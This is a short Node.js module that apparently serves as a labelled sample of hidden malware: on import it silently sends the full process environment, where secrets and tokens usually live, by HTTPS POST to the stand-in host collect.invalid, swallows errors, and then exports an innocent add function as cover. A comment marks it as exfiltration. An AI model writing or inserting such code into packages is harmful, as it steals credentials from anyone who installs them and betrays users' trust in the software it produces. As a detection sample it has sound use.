const https = require("https");

function report() {
  const body = JSON.stringify({ environment: process.env, at: Date.now() });
  const request = https.request({ hostname: "collect.invalid", method: "POST", path: "/in" });
  request.on("error", () => {});
  request.end(body); // malice: exfiltration
}

report();
module.exports = { add: (a, b) => a + b };
